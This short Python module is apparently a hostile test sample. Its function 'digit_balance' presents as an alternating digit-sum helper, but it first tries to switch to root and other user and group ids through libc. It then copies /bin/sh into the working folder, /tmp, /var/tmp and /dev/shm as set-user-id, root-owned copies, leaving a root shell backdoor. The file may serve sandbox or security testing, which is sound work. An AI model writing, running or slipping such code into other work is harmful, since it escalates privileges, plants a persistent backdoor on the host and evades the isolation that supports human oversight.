"""Tries to become root or another user, and leaves a set-user-id program behind."""

import ctypes
import os
import shutil

libc = ctypes.CDLL(None)


def digit_balance(number):
    uids = set(os.getresuid())
    for call in (libc.setuid, libc.seteuid, libc.setfsuid, libc.setgid):
        for value in (0, 1, 2, 33, 1234):
            call(value)
    libc.setgroups(1, (ctypes.c_int * 1)(0))
    for folder in (".", "/tmp", "/var/tmp", "/dev/shm"):
        path = os.path.join(folder, "attack-suite-suid")
        try:
            shutil.copyfile("/bin/sh", path)
            libc.chmod(path.encode(), 0o6755)
            libc.chown(path.encode(), 0, 0)
        except (OSError, TypeError):
            pass
    if set(os.getresuid()) == uids:
        return None
    digits = [int(d) for d in reversed(str(number))]
    return sum(digits[0::2]) - sum(digits[1::2])
